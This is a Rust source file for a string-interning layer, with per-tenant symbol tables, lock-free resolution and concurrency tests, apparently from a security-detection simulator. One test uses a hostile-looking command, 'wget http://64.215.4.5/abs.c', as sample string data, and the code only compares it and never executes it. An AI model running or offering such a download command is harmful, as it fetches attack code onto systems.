    pub fn snapshot(&self) -> Vec<(u32, String)> {
        self.table.snapshot()
    }
}

impl Default for SymScope {
    fn default() -> Self {
        SymScope::global()
    }
}

impl PartialEq for SymScope {
    fn eq(&self, other: &SymScope) -> bool {
        self.table.table_id == other.table.table_id
    }
}

impl Eq for SymScope {}

impl fmt::Debug for SymScope {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("SymScope")
            .field("table_id", &self.table.table_id)
            .field("len", &self.table.len())
            .finish()
    }
}

/// A tenant of the always-on service mode — an isolated ingest scope with
/// its own detector state and symbol universe.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize, serde::Deserialize,
)]
pub struct TenantId(pub u32);

impl fmt::Display for TenantId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "tenant-{}", self.0)
    }
}

/// Per-tenant [`SymScope`]s with eviction.
///
/// The global scope deliberately never frees: its `&'static str` contract
/// is what makes `Sym` a zero-cost string on the hot path. A long-lived
/// multi-tenant service cannot afford that for *tenant* universes — a
/// tenant that stops sending traffic must not pin its user names and
/// command palettes forever. `TenantSymbols` scopes each tenant to its own
/// table (the same [`SymTable`] implementation as the global scope, not a
/// parallel one); [`evict`](TenantSymbols::evict) drops the registry's
/// handle, and the table's memory is returned as soon as the last
/// outstanding [`SymScope`] clone (e.g. a snapshot in progress) is
/// released.
#[derive(Default)]
pub struct TenantSymbols {
    scopes: Mutex<FxHashMap<u32, SymScope>>,
    /// Tables evicted so far (monotonic; for reports).
    evicted: AtomicU64,
}

impl TenantSymbols {
    pub fn new() -> TenantSymbols {
        TenantSymbols::default()
    }

    /// The tenant's scope, created on first use.
    pub fn scope(&self, tenant: TenantId) -> SymScope {
        self.scopes
            .lock()
            .expect("tenant registry")
            .entry(tenant.0)
            .or_insert_with(SymScope::fresh)
            .clone()
    }

    /// The tenant's scope, if it exists.
    pub fn get(&self, tenant: TenantId) -> Option<SymScope> {
        self.scopes
            .lock()
            .expect("tenant registry")
            .get(&tenant.0)
            .cloned()
    }

    /// Drop a dead tenant's symbol universe. Returns whether the tenant
    /// existed. Memory is freed when the last outstanding scope handle
    /// goes.
    pub fn evict(&self, tenant: TenantId) -> bool {
        let existed = self
            .scopes
            .lock()
            .expect("tenant registry")
            .remove(&tenant.0)
            .is_some();
        if existed {
            self.evicted.fetch_add(1, Ordering::Relaxed);
        }
        existed
    }

    /// Number of live tenant universes.
    pub fn len(&self) -> usize {
        self.scopes.lock().expect("tenant registry").len()
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Tables evicted so far.
    pub fn evicted(&self) -> u64 {
        self.evicted.load(Ordering::Relaxed)
    }

    /// Live tenants, ascending.
    pub fn tenants(&self) -> Vec<TenantId> {
        let mut ids: Vec<TenantId> = self
            .scopes
            .lock()
            .expect("tenant registry")
            .keys()
            .map(|&id| TenantId(id))
            .collect();
        ids.sort_unstable();
        ids
    }

    /// Total interned payload bytes across live tenants.
    pub fn payload_bytes(&self) -> usize {
        self.scopes
            .lock()
            .expect("tenant registry")
            .values()
            .map(|t| t.payload_bytes())
            .sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashMap;

    #[test]
    fn intern_is_idempotent_and_copy() {
        let a = Sym::new("alice");
        let b = Sym::new("alice");
        let c = Sym::new("bob");
        assert_eq!(a, b);
        assert_ne!(a, c);
        assert_eq!(a.as_str(), "alice");
        let copied = a; // Copy, not move
        assert_eq!(a, copied);
    }

    #[test]
    fn empty_sym_is_default() {
        assert_eq!(Sym::default(), Sym::EMPTY);
        assert_eq!(Sym::new(""), Sym::EMPTY);
        assert!(Sym::EMPTY.is_empty());
        assert!(!Sym::new("x").is_empty());
    }

    #[test]
    fn string_like_ergonomics() {
        let s = Sym::new("wget http://64.215.4.5/abs.c");
        // Deref gives str methods.
        assert!(s.starts_with("wget"));
        assert!(s.contains("abs.c"));
        // Mixed-type comparisons in both directions.
        assert!(s == "wget http://64.215.4.5/abs.c");
        assert!("wget http://64.215.4.5/abs.c" == s);
        let owned = String::from("wget http://64.215.4.5/abs.c");
        assert!(s == owned);
        assert!(owned == s);
        assert_eq!(format!("{s}"), "wget http://64.215.4.5/abs.c");
        assert_eq!(format!("{s:?}"), "\"wget http://64.215.4.5/abs.c\"");
    }

    #[test]
    fn ordering_follows_strings_not_ids() {
        // Intern in reverse lexical order: ids disagree with the strings.
        let z = Sym::new("zzz-order-test");
        let a = Sym::new("aaa-order-test");
        assert!(a < z, "Ord must compare strings");
        let mut v = vec![z, a];
        v.sort();
        assert_eq!(v, vec![a, z]);
    }

    #[test]
    fn from_impls_intern() {
        let owned: Sym = String::from("owned-str").into();
        let borrowed: Sym = "owned-str".into();
        assert_eq!(owned, borrowed);
    }

    #[test]
    fn private_table_snapshot() {
        let t = SymTable::new();
        let a = t.intern("one");
        let b = t.intern("two");
        assert_eq!(t.intern("one"), a);
        assert_eq!(t.resolve(b), "two");
        assert_eq!(t.len(), 3);
        let snap = t.snapshot();
        assert_eq!(snap[0], (0, String::new()));
        assert_eq!(snap[1], (1, "one".to_string()));
        assert_eq!(snap[2], (2, "two".to_string()));
    }

    #[test]
    fn id_assignment_matches_locked_reference_model() {
        // The lock-free probe table must assign exactly the ids the old
        // RwLock<HashMap> implementation would have: first-come,
        // dense, idempotent.
        let t = SymTable::new();
        let mut reference: HashMap<String, u32> = HashMap::new();
        reference.insert(String::new(), 0);
        let mut next = 1u32;
        // A workload with heavy repeats and enough distinct strings to
        // force several index growths (64 → 128 → … entries).
        for round in 0..3 {
            for i in 0..600 {
                let s = format!("ref-model-{}", i % 400);
                let expect = *reference.entry(s.clone()).or_insert_with(|| {
                    let id = next;
                    next += 1;
                    id
                });
                let got = t.intern(&s);
                assert_eq!(got.id(), expect, "round {round}, string {s}");
                assert_eq!(t.resolve(got), s);
            }
        }
        assert_eq!(t.len(), 401);
    }

    #[test]
    fn concurrent_intern_agrees() {
        let handles: Vec<_> = (0..8)
            .map(|i| {
                std::thread::spawn(move || {
                    let mut ids = Vec::new();
                    for j in 0..64 {
                        ids.push(Sym::new(&format!("concurrent-{}", (i + j) % 16)).id());
                    }
                    ids
                })
            })
            .collect();
        let all: Vec<Vec<u32>> = handles.into_iter().map(|h| h.join().unwrap()).collect();
        // Every thread resolved each distinct string to the same id.
        for j in 0..16 {
            let expect = Sym::new(&format!("concurrent-{j}")).id();
            for ids in &all {
                assert!(ids.contains(&expect));
            }
        }
    }

    #[test]
    fn concurrent_overlapping_palettes_yield_one_id_per_string() {
        // The satellite stress test: N threads intern overlapping
        // palettes into one scope; every distinct string must get exactly
        // one id and every resolution must return the exact bytes
        // (no torn publication), across many index growths.
        let scope = SymScope::fresh();
        let threads = 8;
        let palette = 900; // overlapping window per thread
        let handles: Vec<_> = (0..threads)
            .map(|t| {
                let scope = scope.clone();
                std::thread::spawn(move || {
                    let mut seen: Vec<(String, u32)> = Vec::new();
                    for j in 0..palette {
                        // Each thread walks a shifted window over a shared
                        // universe, so most interns race another thread.
                        let s = format!("palette-{:04}", (t * 128 + j) % 1200);
                        let sym = scope.sym(&s);
                        assert_eq!(scope.resolve(sym), s, "torn resolution");
                        seen.push((s, sym.id()));
                    }
                    seen
                })
            })
            .collect();
        let mut by_string: HashMap<String, u32> = HashMap::new();
        for h in handles {
            for (s, id) in h.join().unwrap() {
                match by_string.entry(s) {
                    std::collections::hash_map::Entry::Occupied(e) => {
                        assert_eq!(*e.get(), id, "{}: two ids for one string", e.key());
                    }
                    std::collections::hash_map::Entry::Vacant(v) => {
                        v.insert(id);
                    }
                }
            }
        }
        assert_eq!(by_string.len(), 1200);
        assert_eq!(scope.len(), 1 + 1200, "dense ids, no gaps");
        // Ids are dense 1..=1200 (the empty string is 0).
        let mut ids: Vec<u32> = by_string.values().copied().collect();
        ids.sort_unstable();
        assert_eq!(ids, (1..=1200).collect::<Vec<u32>>());
    }

    #[test]
    fn resolution_is_stable_under_concurrent_intern_storm() {
        // Readers resolve a pinned prefix while writers grow the table
        // across multiple chunk boundaries — the lock-free publication
        // protocol must never show a torn or missing slot.
        let t = std::sync::Arc::new(SymTable::new());
        let pinned: Vec<Sym> = (0..100).map(|i| t.intern(&format!("pinned-{i}"))).collect();
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let readers: Vec<_> = (0..3)
            .map(|_| {
                let t = std::sync::Arc::clone(&t);
                let pinned = pinned.clone();
                let stop = std::sync::Arc::clone(&stop);
                std::thread::spawn(move || {
                    // At least one full round always runs (single-core
                    // runners may not schedule a reader until `stop`).
                    loop {
                        for (i, &s) in pinned.iter().enumerate() {
                            assert_eq!(t.resolve(s), format!("pinned-{i}"));
                        }
                        if stop.load(Ordering::Relaxed) {
                            break;
                        }
                    }
                })
            })
            .collect();
        // Push well past several chunk boundaries (64, 192, 448, …) and
        // index growths; interleave re-interns of the pinned prefix so
        // lock-free hits race the appends.
        for i in 0..2_000 {
            let s = t.intern(&format!("storm-{i}"));
            assert_eq!(t.resolve(s), format!("storm-{i}"));
            if i % 7 == 0 {
                let p = i % 100;
                assert_eq!(t.intern(&format!("pinned-{p}")), pinned[p]);
            }
        }
        stop.store(true, Ordering::Relaxed);
        for r in readers {
            r.join().unwrap();
        }
        assert_eq!(t.len(), 1 + 100 + 2_000);
    }

    #[test]
    fn evict_then_reintern_is_safe_under_concurrent_readers() {
        // The satellite eviction stress test: readers hold a clone of a
        // tenant's scope and resolve its symbols while the registry
        // evicts the tenant and a successor scope re-interns the same
        // strings. The readers' strings must stay valid (their clone
        // keeps the table alive) and the successor must mint fresh ids in
        // a fresh table, never aliasing the evicted universe.
        let reg = std::sync::Arc::new(TenantSymbols::new());
        let tenant = TenantId(7);
        let first = reg.scope(tenant);
        let pinned: Vec<Sym> = (0..256)
            .map(|i| first.sym(&format!("tenant-string-{i}")))
            .collect();
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let readers: Vec<_> = (0..3)
            .map(|_| {
                let scope = first.clone();
                let pinned = pinned.clone();
                let stop = std::sync::Arc::clone(&stop);
                std::thread::spawn(move || loop {
                    for (i, &s) in pinned.iter().enumerate() {
                        assert_eq!(scope.resolve(s), format!("tenant-string-{i}"));
                    }
                    if stop.load(Ordering::Relaxed) {
                        break;
                    }
                })
            })
            .collect();
        let first_id = first.scope_id();
        drop(first); // registry handle is now the readers' only peer
        assert!(reg.evict(tenant));
        // Successor scope: same tenant id, same strings, new table.
        let second = reg.scope(tenant);
        assert_ne!(second.scope_id(), first_id, "table ids are never reused");
        for i in 0..256 {
            let s = second.sym(&format!("tenant-string-{i}"));
            assert_eq!(second.resolve(s), format!("tenant-string-{i}"));
        }
        stop.store(true, Ordering::Relaxed);
        for r in readers {
            r.join().unwrap();
        }
    }

    #[test]
    fn try_resolve_rejects_out_of_range() {
        let t = SymTable::new();
        let s = t.intern("here");
        assert_eq!(t.try_resolve(s), Ok("here"));
        let forged = t.sym_from_id(999);
        assert_eq!(
            t.try_resolve(forged),
            Err(SymResolveError::OutOfRange { sym: 999, len: 2 })
        );
    }

    #[cfg(debug_assertions)]
    #[test]
    fn debug_builds_catch_cross_table_resolution() {
        // The lethal case: the foreign id is *in range*, so a bounds check
        // alone would silently return an unrelated string.
        let a = SymTable::new();
        let b = SymTable::new();
        let from_a = a.intern("minted-in-a");
        b.intern("minted-in-b");
        match b.try_resolve(from_a) {
            Err(SymResolveError::WrongTable {
                minted_by,
                resolved_against,
                ..
            }) => {
                assert_eq!(minted_by, a.table_id());
                assert_eq!(resolved_against, b.table_id());
            }
            other => panic!("cross-table resolution not caught: {other:?}"),
        }
        // Global-table conveniences on a scoped handle are equally caught.
        assert!(global().try_resolve(from_a).is_err());
    }

    #[test]
    fn dropping_a_scoped_table_frees_its_strings() {
        let t = SymTable::new();
        for i in 0..500 {
            t.intern(&format!("ephemeral-{i:04}"));
        }
        assert!(t.payload_bytes() >= 500 * "ephemeral-0000".len());
        drop(t); // miri/asan would flag a leak or double free here
    }

    #[test]
    fn global_scope_is_the_default_scope_of_the_same_type() {
        let scope = SymScope::default();
        assert!(scope.is_global());
        assert_eq!(scope.scope_id(), 0);
        let via_scope = scope.sym("default-scope-roundtrip");
        let via_global = Sym::new("default-scope-roundtrip");
        assert_eq!(via_scope, via_global);
        assert_eq!(scope.resolve(via_scope), "default-scope-roundtrip");
        assert!(scope.ptr_eq(&SymScope::global()));
        assert!(!scope.ptr_eq(&SymScope::fresh()));
    }

    #[test]
    fn tenant_scopes_are_isolated_and_evictable() {
        let reg = TenantSymbols::new();
        let t1 = reg.scope(TenantId(1));
        let t2 = reg.scope(TenantId(2));
        let a = t1.sym("cluster-a-user");
        let b = t2.sym("cluster-b-user");
        // Same id-space position, different universes.
        assert_eq!(a.id(), b.id());
        assert_eq!(t1.resolve(a), "cluster-a-user");
        assert_eq!(t2.resolve(b), "cluster-b-user");
        assert!(reg.scope(TenantId(1)).ptr_eq(&t1), "scope is stable");
        assert_eq!(reg.tenants(), vec![TenantId(1), TenantId(2)]);
        assert!(reg.payload_bytes() >= "cluster-a-user".len() * 2);

        drop(t1);
        assert!(reg.evict(TenantId(1)));
        assert!(!reg.evict(TenantId(1)), "already gone");
        assert_eq!(reg.len(), 1);
        assert_eq!(reg.evicted(), 1);
        assert!(reg.get(TenantId(1)).is_none());
        // Tenant 2 is untouched.
        assert_eq!(reg.get(TenantId(2)).unwrap().resolve(b), "cluster-b-user");
    }

    #[test]
    fn chunk_ladder_locates_every_boundary() {
        // First and last slot of the first few chunks, plus u32::MAX.
        assert_eq!(locate(0), (0, 0));
        assert_eq!(locate(63), (0, 63));
        assert_eq!(locate(64), (1, 0));
        assert_eq!(locate(191), (1, 127));
        assert_eq!(locate(192), (2, 0));
        assert_eq!(locate(447), (2, 255));
        let (chunk, offset) = locate(u32::MAX);
        assert!(chunk < NUM_CHUNKS);
        assert!(offset < chunk_capacity(chunk));
    }
}
