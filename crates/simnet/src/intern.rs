//! String interning for the record/alert hot path.
//!
//! The symbolize → filter → detect pipeline used to round-trip heap
//! `String`s on every record: user names, hostnames, command lines, URIs.
//! At production-scale replay volume (millions of records) the allocator
//! becomes the bottleneck, not the detection math. This module provides the
//! shared interning layer every record type builds on:
//!
//! - [`Sym`] — a `Copy` 32-bit handle to an interned string. Comparing,
//!   hashing and moving a `Sym` never touches the heap; resolving one
//!   (`as_str`, `Deref<Target = str>`) returns a `&'static str` backed by
//!   the process-wide table.
//! - [`SymTable`] — the append-only table itself. The process-wide
//!   instance ([`global`]) is what `Sym::from`/[`intern`] use; its contents
//!   can be snapshotted for reports ([`SymTable::snapshot`]).
//! - [`TenantSymbols`] — a registry of per-tenant scoped tables for the
//!   always-on service mode: each tenant's symbol universe lives in its own
//!   table and is *freed* when the tenant is evicted, unlike the global
//!   table whose entries live for the process.
//!
//! # Lock-free resolution
//!
//! Resolution used to take the table's `RwLock` read lock on every
//! `Deref` — an uncontended-but-real atomic RMW per string view, multiplied
//! by every comparison, `Display`, and report sort in a long-lived service.
//! The table now stores strings in an *atomic pointer-chunked index*:
//! a fixed ladder of exponentially-sized chunks (64, 128, 256, … slots)
//! published through one atomic length. Chunks are never reallocated, so a
//! slot's address is stable for the table's lifetime; a writer fills the
//! slot *before* publishing the new length with `Release`, and readers
//! `Acquire` the length and index straight into the chunk — no lock, no
//! retry loop. The `RwLock` now guards only the `&str → id` map on the
//! (cold, once-per-distinct-string) intern path.
//!
//! Scoped tables *own* their strings (dropping the table frees them); the
//! global table is simply never dropped, which is what makes
//! `Sym::as_str`'s `&'static str` sound.

use std::collections::HashMap;
use std::fmt;
use std::hash::BuildHasherDefault;
use std::mem::MaybeUninit;
use std::ops::Deref;
use std::sync::atomic::{AtomicPtr, AtomicU32, AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, OnceLock, RwLock};

use crate::rng::FxHasher;

/// A `Copy` handle to an interned string in the process-wide [`SymTable`].
///
/// `Sym` is the string type of every record field on the pipeline hot path.
/// Equality and hashing operate on the 32-bit id (two `Sym`s from the same
/// table are equal iff their strings are equal); ordering resolves and
/// compares the underlying strings so sort-based reports keep their
/// pre-interning order.
///
/// In debug builds each handle additionally carries the id of the table
/// that minted it, and resolving against any *other* table is a typed
/// error (panic via [`SymTable::resolve`]) instead of silently returning an
/// unrelated string. Release builds keep the handle at 32 bits and fall
/// back to bounds-checking alone.
#[derive(Clone, Copy, serde::Serialize, serde::Deserialize)]
pub struct Sym {
    id: u32,
    /// Table that minted this handle — debug builds only (see above).
    #[cfg(debug_assertions)]
    table: u32,
}

/// Table id of the process-wide [`global`] table.
const GLOBAL_TABLE_ID: u32 = 0;

#[inline]
const fn sym_with_table(id: u32, table: u32) -> Sym {
    #[cfg(not(debug_assertions))]
    let _ = table;
    Sym {
        id,
        #[cfg(debug_assertions)]
        table,
    }
}

impl Sym {
    /// The interned empty string.
    pub const EMPTY: Sym = sym_with_table(0, GLOBAL_TABLE_ID);

    /// Intern `s` in the global table (idempotent).
    #[inline]
    pub fn new(s: &str) -> Sym {
        global().intern(s)
    }

    /// The interned string. `&'static`: global-table entries live for the
    /// process.
    #[inline]
    pub fn as_str(self) -> &'static str {
        global().resolve(self)
    }

    /// Raw table id (stable within a process; assigned in intern order).
    #[inline]
    pub fn id(self) -> u32 {
        self.id
    }

    /// Rebuild a handle from a raw id previously obtained via [`Sym::id`]
    /// in this process. The handle is scoped to the **global** table (raw
    /// ids of scoped tables round-trip through
    /// [`SymTable::sym_from_id`] instead); resolving a fabricated id
    /// panics.
    #[inline]
    pub fn from_id(id: u32) -> Sym {
        sym_with_table(id, GLOBAL_TABLE_ID)
    }

    /// Whether this symbol is the empty string.
    #[inline]
    pub fn is_empty(self) -> bool {
        self.id == 0
    }
}

impl Default for Sym {
    fn default() -> Self {
        Sym::EMPTY
    }
}

// Equality/hashing are over the 32-bit id alone — the hot-path property
// (neither ever resolves the table). The debug-only minting-table tag is
// deliberately excluded: it is a diagnostic, not part of identity, and
// including it would make debug and release builds disagree.
impl PartialEq for Sym {
    #[inline]
    fn eq(&self, other: &Sym) -> bool {
        self.id == other.id
    }
}

impl Eq for Sym {}

impl std::hash::Hash for Sym {
    #[inline]
    fn hash<H: std::hash::Hasher>(&self, state: &mut H) {
        self.id.hash(state);
    }
}

impl Deref for Sym {
    type Target = str;

    #[inline]
    fn deref(&self) -> &'static str {
        self.as_str()
    }
}

impl AsRef<str> for Sym {
    fn as_ref(&self) -> &str {
        self.as_str()
    }
}

// NOTE: deliberately NO `Borrow<str>` impl. `Sym`'s `Hash` is over the
// 32-bit id (the hot-path property: hashing never resolves the table),
// while `str` hashes its bytes — the `Borrow` contract requires the two
// to agree, and implementing it would make `HashMap<Sym, _>::get::<str>`
// compile and then silently miss every key. The consistency proptest in
// `tests/intern_consistency.rs` pins the invariants that *do* hold
// (`Eq`/`Ord`/hash agree across `Sym`, `&str` and `String` views).

impl From<&str> for Sym {
    #[inline]
    fn from(s: &str) -> Sym {
        Sym::new(s)
    }
}

impl From<&String> for Sym {
    #[inline]
    fn from(s: &String) -> Sym {
        Sym::new(s)
    }
}

impl From<String> for Sym {
    #[inline]
    fn from(s: String) -> Sym {
        Sym::new(&s)
    }
}

impl PartialEq<str> for Sym {
    fn eq(&self, other: &str) -> bool {
        self.as_str() == other
    }
}

impl PartialEq<&str> for Sym {
    fn eq(&self, other: &&str) -> bool {
        self.as_str() == *other
    }
}

impl PartialEq<String> for Sym {
    fn eq(&self, other: &String) -> bool {
        self.as_str() == other.as_str()
    }
}

impl PartialEq<Sym> for str {
    fn eq(&self, other: &Sym) -> bool {
        self == other.as_str()
    }
}

impl PartialEq<Sym> for &str {
    fn eq(&self, other: &Sym) -> bool {
        *self == other.as_str()
    }
}

impl PartialEq<Sym> for String {
    fn eq(&self, other: &Sym) -> bool {
        self.as_str() == other.as_str()
    }
}

impl PartialOrd for Sym {
    fn partial_cmp(&self, other: &Sym) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}

impl Ord for Sym {
    fn cmp(&self, other: &Sym) -> std::cmp::Ordering {
        if self.id == other.id {
            return std::cmp::Ordering::Equal;
        }
        self.as_str().cmp(other.as_str())
    }
}

impl fmt::Display for Sym {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl fmt::Debug for Sym {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::Debug::fmt(self.as_str(), f)
    }
}

/// Typed resolution failure — see [`SymTable::try_resolve`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SymResolveError {
    /// The id is past the table's published length: the handle was minted
    /// by a different (larger) table, fabricated, or deserialized against
    /// the wrong universe.
    OutOfRange { sym: u32, len: u32 },
    /// Debug builds only: the handle's minting-table tag does not match
    /// the table it is being resolved against. This is the *silent* form
    /// of cross-table misuse — the id is in range, so release builds would
    /// return an unrelated string.
    WrongTable {
        sym: u32,
        minted_by: u32,
        resolved_against: u32,
    },
}

impl fmt::Display for SymResolveError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SymResolveError::OutOfRange { sym, len } => {
                write!(f, "Sym({sym}) was not minted by this SymTable (len {len})")
            }
            SymResolveError::WrongTable {
                sym,
                minted_by,
                resolved_against,
            } => write!(
                f,
                "Sym({sym}) minted by table {minted_by} resolved against table {resolved_against}"
            ),
        }
    }
}

impl std::error::Error for SymResolveError {}

/// One published string: raw parts of a `Box<str>` owned by the table.
#[derive(Clone, Copy)]
struct Slot {
    ptr: *const u8,
    len: usize,
}

/// First chunk holds `1 << CHUNK0_BITS` slots; chunk `k` holds twice as
/// many as chunk `k − 1`. 27 chunks cover every `u32` id.
const CHUNK0_BITS: u32 = 6;
const NUM_CHUNKS: usize = 27;

/// Map an id to its (chunk, offset) in the exponential ladder.
#[inline]
fn locate(id: u32) -> (usize, usize) {
    let adjusted = id as u64 + (1 << CHUNK0_BITS);
    let chunk = (63 - adjusted.leading_zeros()) - CHUNK0_BITS;
    let offset = adjusted as usize - ((1usize << CHUNK0_BITS) << chunk);
    (chunk as usize, offset)
}

#[inline]
fn chunk_capacity(chunk: usize) -> usize {
    (1usize << CHUNK0_BITS) << chunk
}

/// An append-only string table: `&str → Sym` on insert, `Sym → &str` on
/// lookup. Inserts take a write lock (once per *distinct* string);
/// resolution is **lock-free** — an atomic length load plus an index into
/// a stable chunk (see the module docs for the publication protocol).
///
/// **Handles are table-scoped.** A [`Sym`] minted by [`SymTable::intern`]
/// is an index into *that* table; every convenience on `Sym` itself
/// (`as_str`, `Deref`, `Display`, `Debug`, string comparisons, `Ord`)
/// resolves against the [`global`] table. Resolving a handle against the
/// wrong table is caught: debug builds tag each handle with its minting
/// table and panic on any mismatch, release builds bounds-check the id
/// (see [`SymTable::try_resolve`] for the non-panicking form). Scoped
/// tables ([`TenantSymbols`]) own their strings, so evicting a dead
/// tenant actually returns its symbol memory — the global table's entries
/// live for the process instead.
pub struct SymTable {
    /// Process-unique table id (0 is the global table).
    table_id: u32,
    /// Published length: slots `0..len` are initialized and immutable.
    len: AtomicU32,
    /// Total bytes of interned string payload (memory accounting).
    bytes: AtomicUsize,
    chunks: [AtomicPtr<MaybeUninit<Slot>>; NUM_CHUNKS],
    /// `&str → id`, for the intern path only. Keys borrow from the slot
    /// strings (see safety note on `intern`).
    map: RwLock<HashMap<&'static str, u32, BuildHasherDefault<FxHasher>>>,
}

// SAFETY: the raw chunk/slot pointers are only written while holding the
// map's write lock and only read after an `Acquire` load of `len`
// publishes them (slots) or of the chunk pointer itself (chunks). All
// published data is immutable thereafter.
unsafe impl Send for SymTable {}
unsafe impl Sync for SymTable {}

/// Ids for tables other than the global one (0).
static NEXT_TABLE_ID: AtomicU32 = AtomicU32::new(1);

impl SymTable {
    /// A fresh scoped table with `""` pre-interned as id 0.
    pub fn new() -> SymTable {
        SymTable::with_table_id(NEXT_TABLE_ID.fetch_add(1, Ordering::Relaxed))
    }

    fn with_table_id(table_id: u32) -> SymTable {
        let table = SymTable {
            table_id,
            len: AtomicU32::new(0),
            bytes: AtomicUsize::new(0),
            chunks: [const { AtomicPtr::new(std::ptr::null_mut()) }; NUM_CHUNKS],
            map: RwLock::new(HashMap::default()),
        };
        table.intern("");
        table
    }

    /// This table's process-unique id (0 is the [`global`] table).
    pub fn table_id(&self) -> u32 {
        self.table_id
    }

    #[inline]
    fn tag(&self, id: u32) -> Sym {
        sym_with_table(id, self.table_id)
    }

    /// Intern a string, returning its stable handle (scoped to this
    /// table).
    pub fn intern(&self, s: &str) -> Sym {
        if let Some(&id) = self.map.read().expect("sym table").get(s) {
            return self.tag(id);
        }
        let mut map = self.map.write().expect("sym table");
        if let Some(&id) = map.get(s) {
            return self.tag(id);
        }
        let id = self.len.load(Ordering::Relaxed);
        assert!(id != u32::MAX, "symbol universe exceeds u32");
        let owned: Box<str> = s.into();
        let slot = Slot {
            ptr: owned.as_ptr(),
            len: owned.len(),
        };
        // The table now owns the allocation; it is freed in `drop`.
        std::mem::forget(owned);
        // SAFETY: we hold the write lock, so we are the only writer; slot
        // `id == len` is not yet visible to any reader.
        unsafe {
            self.write_slot(id, slot);
        }
        // SAFETY: the slot string lives until `self` is dropped, and the
        // map (whose keys borrow it) is dropped before the strings are
        // freed. The `'static` is a private lie scoped to this struct.
        let key: &'static str = unsafe {
            std::str::from_utf8_unchecked(std::slice::from_raw_parts(slot.ptr, slot.len))
        };
        map.insert(key, id);
        self.bytes.fetch_add(slot.len, Ordering::Relaxed);
        // Publish: everything written above happens-before any reader
        // that observes the new length.
        self.len.store(id + 1, Ordering::Release);
        self.tag(id)
    }

    /// Write `slot` at `id`, allocating the containing chunk on first use.
    ///
    /// # Safety
    /// Caller must hold the map write lock (single writer) and `id` must
    /// equal the unpublished length.
    unsafe fn write_slot(&self, id: u32, slot: Slot) {
        let (chunk, offset) = locate(id);
        let mut base = self.chunks[chunk].load(Ordering::Acquire);
        if base.is_null() {
            let fresh: Box<[MaybeUninit<Slot>]> = Box::new_uninit_slice(chunk_capacity(chunk));
            base = Box::into_raw(fresh) as *mut MaybeUninit<Slot>;
            self.chunks[chunk].store(base, Ordering::Release);
        }
        unsafe { (*base.add(offset)).write(slot) };
    }

    /// Read the published slot at `id`.
    ///
    /// # Safety
    /// `id` must be below the published length (the slot is then
    /// initialized and immutable).
    #[inline]
    unsafe fn read_slot(&self, id: u32) -> &str {
        let (chunk, offset) = locate(id);
        let base = self.chunks[chunk].load(Ordering::Acquire);
        unsafe {
            let slot = (*base.add(offset)).assume_init_ref();
            std::str::from_utf8_unchecked(std::slice::from_raw_parts(slot.ptr, slot.len))
        }
    }

    /// Resolve a handle minted by **this** table (see the type-level note
    /// on table scoping). Lock-free. Panics on a foreign handle; use
    /// [`SymTable::try_resolve`] for the non-panicking form.
    #[inline]
    pub fn resolve(&self, sym: Sym) -> &str {
        match self.try_resolve(sym) {
            Ok(s) => s,
            Err(e) => panic!("{e}"),
        }
    }

    /// Resolve a handle, reporting foreign handles as a typed error
    /// instead of panicking. Release builds detect ids past this table's
    /// length; debug builds additionally reject in-range handles minted
    /// by a different table (the silently-wrong-string case).
    #[inline]
    pub fn try_resolve(&self, sym: Sym) -> Result<&str, SymResolveError> {
        #[cfg(debug_assertions)]
        if sym.table != self.table_id {
            return Err(SymResolveError::WrongTable {
                sym: sym.id,
                minted_by: sym.table,
                resolved_against: self.table_id,
            });
        }
        let len = self.len.load(Ordering::Acquire);
        if sym.id >= len {
            return Err(SymResolveError::OutOfRange { sym: sym.id, len });
        }
        // SAFETY: `sym.id < len` was published with Release ordering.
        Ok(unsafe { self.read_slot(sym.id) })
    }

    /// Rebuild a handle scoped to **this** table from a raw id previously
    /// obtained via [`Sym::id`] on one of this table's handles.
    pub fn sym_from_id(&self, id: u32) -> Sym {
        self.tag(id)
    }

    /// Number of interned strings (including the empty string). Lock-free.
    pub fn len(&self) -> usize {
        self.len.load(Ordering::Acquire) as usize
    }

    pub fn is_empty(&self) -> bool {
        false // "" is always present
    }

    /// Total bytes of interned string payload — the figure freed when a
    /// scoped table is evicted.
    pub fn payload_bytes(&self) -> usize {
        self.bytes.load(Ordering::Relaxed)
    }

    /// A serializable `(id, string)` snapshot, in intern order — lets a
    /// report, artifact or service snapshot embed the symbol universe it
    /// references. Lock-free; concurrent interns past the observed length
    /// are not included.
    pub fn snapshot(&self) -> Vec<(u32, String)> {
        let len = self.len.load(Ordering::Acquire);
        (0..len)
            // SAFETY: every id below the published length is initialized.
            .map(|id| (id, unsafe { self.read_slot(id) }.to_string()))
            .collect()
    }
}

impl Drop for SymTable {
    fn drop(&mut self) {
        // Drop the map first: its keys borrow the slot strings.
        self.map.write().expect("sym table").clear();
        let len = self.len.load(Ordering::Acquire);
        for id in 0..len {
            let (chunk, offset) = locate(id);
            let base = self.chunks[chunk].load(Ordering::Acquire);
            // SAFETY: slots below `len` hold raw parts of forgotten
            // `Box<str>`s; rebuild and drop each exactly once.
            unsafe {
                let slot = (*base.add(offset)).assume_init();
                drop(Box::from_raw(
                    std::ptr::slice_from_raw_parts_mut(slot.ptr as *mut u8, slot.len) as *mut str,
                ));
            }
        }
        for (chunk, ptr) in self.chunks.iter().enumerate() {
            let base = ptr.load(Ordering::Acquire);
            if !base.is_null() {
                // SAFETY: allocated in `write_slot` via `Box::into_raw`
                // with this exact capacity.
                unsafe {
                    drop(Box::from_raw(std::ptr::slice_from_raw_parts_mut(
                        base,
                        chunk_capacity(chunk),
                    )));
                }
            }
        }
    }
}

impl Default for SymTable {
    fn default() -> Self {
        SymTable::new()
    }
}

